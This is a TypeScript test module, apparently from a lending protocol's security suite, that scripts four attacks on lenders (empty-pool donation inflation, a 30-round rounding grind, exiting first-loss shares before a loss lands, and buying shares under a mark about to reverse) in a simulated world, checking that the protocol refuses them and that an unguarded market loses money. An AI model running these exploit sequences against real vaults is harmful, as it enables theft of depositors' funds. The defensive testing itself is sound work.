// Attacks on those who lend: their shares, their rounding, their way out.
import type { BaseContract } from "ethers";
import type { Attack } from "./attack.js";
import { MAX, PRICE, type World, btc, usd } from "./world.js";

const noPrice = (w: World): Promise<BaseContract> => w.deploy("WrittenPrice", w.priceE36(PRICE));
const sharesOf = (w: World, token: BaseContract, holder: unknown): Promise<bigint> =>
  w.read(token, "balanceOf", holder);

/** A loan that a fall to this price leaves with less collateral than debt. */
const DROWNED = { collateral: btc(150), principal: usd(6_700_000), price: 30_000 };

async function drown(w: World): Promise<bigint> {
  const id = await w.openFor(w.borrower, DROWNED.collateral, DROWNED.principal);
  await w.publish(w.feeds.btcUsd, DROWNED.price);
  return id;
}

/** The average of the pool has not followed: whoever wants the sale records that and waits for the cap. */
async function waitForHold(w: World): Promise<void> {
  await w.send(w.oracle, "noteDisagreement");
  await w.time.increase(1_800);
}

/** By somebody who pays with own money. */
async function sellDrowned(w: World, id: bigint): Promise<void> {
  await waitForHold(w);
  await w.send(w.manager.connect(w.lender), "liquidate", id, MAX, 0, "0x");
}

/** What is given to an empty pool, in order that the next deposit buys nothing. */
const DONATION = usd(100_000);
const NEXT_DEPOSIT = usd(99_000);

const inflation: Attack = {
  fault: "C10",
  name: "first depositor inflates an empty pool",
  precedent: {
    protocol: "Sonne Finance (Optimism)",
    year: 2024,
    lossUsd: 20_000_000,
    source: "https://bitcoinsnews.com/sonne-finance-loses-20-million-in-compound-v2-donation-attack-on-optimism-74668",
  },
  tries: "one unit deposited into a pool that holds its seed only, 100,000 dollars donated, the next deposit awaited",
  fresh: true,
  async run(w) {
    const before = await w.wealth(PRICE);
    await w.send(w.senior.connect(w.attacker), "deposit", 1n, w.attacker);
    await w.send(w.loan.connect(w.attacker), "transfer", w.pool, DONATION / 2n);
    await w.send(w.loan.connect(w.attacker), "transfer", w.senior, DONATION / 2n);
    await w.send(w.senior.connect(w.lender), "deposit", NEXT_DEPOSIT, w.lender);
    const shares = await sharesOf(w, w.senior, w.attacker);
    const refusal = await w.refusals.attempt(w.senior.connect(w.attacker), "redeem", shares, w.attacker, w.attacker);
    return { refusals: refusal === undefined ? [] : [refusal], profit: (await w.wealth(PRICE)) - before };
  },
  async unguarded(w) {
    const market = await w.plainMarket(await noPrice(w), 8_000, 500, 0n);
    const before = await w.wealth(PRICE);
    await w.send(market.connect(w.attacker), "deposit", 1n);
    await w.send(w.loan.connect(w.attacker), "transfer", market, DONATION);
    await w.send(market.connect(w.lender), "deposit", NEXT_DEPOSIT);
    await w.send(market.connect(w.attacker), "redeem", await sharesOf(w, market, w.attacker));
    return (await w.wealth(PRICE)) - before;
  },
};

/** Times each step is repeated in one transaction. */
const ROUNDS = 30n;
/** Just what one transaction of the rollup may use. */
const GAS = { gasLimit: 16_777_215n };

const rounding: Attack = {
  fault: "C11",
  name: "rounding ground out in a loop",
  precedent: {
    protocol: "zkLend",
    year: 2025,
    lossUsd: 9_570_000,
    source: "https://rekt.news/zklend-rekt",
  },
  tries: "one unit lent and withdrawn, drawn and repaid, 30 times in a transaction, at a share price that is not round",
  async run(w) {
    const { contract } = w;
    // A loss through all classes leaves a share price at which every conversion is uneven.
    await sellDrowned(w, await drown(w));
    await w.send(w.collateral.connect(w.attacker), "transfer", contract, btc(1));
    await w.send(w.loan.connect(w.attacker), "transfer", contract, usd(10_000));
    const before = await w.wealth(DROWNED.price);
    const id = await w.idOf(contract);
    const open = await w.call(w.manager, "open", w.facility, 0, btc(1), usd(1_000), contract, "0x");
    const enter = await w.call(w.senior, "deposit", usd(1_000) + 1n, contract);
    await w.send(contract, "run", [open, enter]);
    await w.send(
      contract,
      "grind",
      ROUNDS,
      [
        await w.call(w.senior, "withdraw", 1n, contract, contract),
        await w.call(w.senior, "deposit", 1n, contract),
        await w.call(w.senior, "mint", 1_000_001n, contract),
        await w.call(w.senior, "withdraw", 1n, contract, contract),
        await w.call(w.manager, "draw", id, 1n, contract),
        await w.call(w.manager, "repay", id, 1n, "0x"),
      ],
      GAS,
    );
    const shares = await sharesOf(w, w.senior, contract);
    await w.send(contract, "run", [
      await w.call(w.senior, "redeem", shares, contract, contract),
      await w.call(w.manager, "close", id, contract, "0x"),
    ]);
    return { refusals: [], profit: (await w.wealth(DROWNED.price)) - before };
  },
  async unguarded(w) {
    const market = await w.plainMarket(await noPrice(w), 8_000, 500, 0n);
    const before = await w.wealth(PRICE);
    await w.send(market.connect(w.attacker), "deposit", 1n);
    await w.send(w.loan.connect(w.attacker), "transfer", market, usd(10_000) - 1n);
    await w.send(market.connect(w.lender), "deposit", usd(2_000_000));
    // Less than one share each time, which is none.
    const calls = [await w.call(market, "withdraw", usd(5_000))];
    await w.send(w.contract, "grind", ROUNDS, calls, GAS);
    return (await w.wealth(PRICE)) - before;
  },
};

const FIRST_LOSS_STAKE = usd(1_000_000);

const leaver: Attack = {
  fault: "C23",
  name: "lender leaves between a loan's going under and its loss",
  precedent: {
    protocol: "lenders against Stream's xUSD",
    year: 2025,
    lossUsd: 285_000_000,
    source: "https://swapzone.io/blog/defi-stablecoin-crisis-2025",
  },
  tries:
    "a million of first-loss shares redeemed, with and without a request, while a loan is under water and nobody has sold",
  async run(w) {
    const before = await w.wealth(PRICE);
    await w.send(w.junior.connect(w.attacker), "deposit", FIRST_LOSS_STAKE, w.attacker);
    const shares = await sharesOf(w, w.junior, w.attacker);
    const id = await drown(w);
    const refusals: string[] = [];
    const leave = async (): Promise<void> => {
      const from = w.junior.connect(w.attacker);
      const refusal = await w.refusals.attempt(from, "redeem", shares, w.attacker, w.attacker);
      if (refusal !== undefined) refusals.push(refusal);
    };
    await leave();
    await w.send(w.junior.connect(w.attacker), "requestExit", shares);
    await leave();
    await sellDrowned(w, id);
    // Against who stayed with as many shares: a loss shared is not a gain.
    const stayed = await sharesOf(w, w.junior, w.juniorLender);
    const left = ((await w.read<bigint>(w.junior, "previewRedeem", stayed)) * shares) / stayed;
    return { refusals, profit: (await w.wealth(PRICE)) - before + FIRST_LOSS_STAKE - left };
  },
  async unguarded(w) {
    const source = await w.feedPrice(w.feeds.btcUsd);
    const market = await w.plainMarket(source, 8_000, 500, usd(10_000_000));
    await w.send(market.connect(w.attacker), "deposit", FIRST_LOSS_STAKE);
    const shares = await sharesOf(w, market, w.attacker);
    await w.send(market.connect(w.borrower), "supply", DROWNED.collateral);
    await w.send(market.connect(w.borrower), "borrow", DROWNED.principal);
    await w.publish(w.feeds.btcUsd, DROWNED.price);
    const before = await w.wealth(PRICE);
    await w.send(market.connect(w.attacker), "redeem", shares);
    const taken = (await w.wealth(PRICE)) - before;
    const repaid = (w.priceE36(DROWNED.price) * DROWNED.collateral * 10_000n) / 10_500n / 10n ** 36n;
    await w.send(market.connect(w.lender), "liquidate", w.borrower, repaid + 1n);
    await w.send(market, "writeOff", w.borrower);
    return taken - (await w.read<bigint>(market, "convertToAssets", shares));
  },
};

const lateMark: Attack = {
  fault: "C23",
  name: "shares bought under a mark that is about to be taken back",
  precedent: {
    protocol: "mutual funds, late trading",
    year: 2003,
    source: "https://en.wikipedia.org/wiki/2003_mutual_fund_scandal",
  },
  tries:
    "5 million of senior shares bought while a loss is marked that the next price takes back, and redeemed after it",
  async run(w) {
    const id = await drown(w);
    await waitForHold(w);
    await w.send(w.manager, "mark", id);
    const before = await w.wealth(PRICE);
    await w.send(w.senior.connect(w.attacker), "deposit", usd(5_000_000), w.attacker);
    await w.publish(w.feeds.btcUsd, PRICE);
    await w.send(w.manager, "mark", id);
    const shares = await sharesOf(w, w.senior, w.attacker);
    await w.send(w.senior.connect(w.attacker), "redeem", shares, w.attacker, w.attacker);
    return { refusals: [], profit: (await w.wealth(PRICE)) - before };
  },
  async unguarded(w) {
    // A vault whose share follows the mark for whoever enters as for whoever leaves: it holds shares of the facility.
    const market = await w.deploy("MarkedFund", w.senior);
    await w.allow(market);
    await w.send(market.connect(w.lender), "deposit", usd(5_000_000));
    const id = await drown(w);
    await waitForHold(w);
    await w.send(w.manager, "mark", id);
    const before = await w.wealth(PRICE);
    await w.send(market.connect(w.attacker), "deposit", usd(5_000_000));
    await w.publish(w.feeds.btcUsd, PRICE);
    await w.send(w.manager, "mark", id);
    await w.send(market.connect(w.attacker), "redeem", await sharesOf(w, market, w.attacker));
    return (await w.wealth(PRICE)) - before;
  },
};

export const attacksOnLenders: readonly Attack[] = [inflation, rounding, leaver, lateMark];
